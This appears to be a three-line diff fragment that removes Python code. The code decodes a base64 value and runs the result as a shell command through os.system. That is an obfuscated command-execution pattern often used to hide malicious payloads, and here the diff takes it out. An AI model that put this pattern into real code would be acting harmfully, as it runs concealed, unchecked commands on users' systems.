@@ -1,3 +1,0 @@
-import base64, os
-command = base64.b64decode(data).decode()
-os.system(command)
